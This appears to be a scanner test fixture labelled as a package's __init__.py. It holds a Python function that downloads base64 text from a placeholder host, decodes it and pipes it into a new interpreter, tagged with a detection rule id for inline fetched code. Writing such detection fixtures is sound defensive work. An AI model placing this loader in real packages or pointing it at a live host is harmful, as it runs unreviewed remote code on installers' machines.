# canary-test: path=tablates/__init__.py artifact=sdist
# Fetched, decoded code piped to a fresh interpreter (inert host).
import base64
import subprocess
import sys

import requests


def run(url="https://example.invalid/cfg"):
    code = base64.b64decode(requests.get(url, timeout=3).text)
    p = subprocess.Popen([sys.executable, "-"], stdin=subprocess.PIPE)
    p.communicate(code)
# ruleid: INLINE_PYTHON_FETCHED_CODE
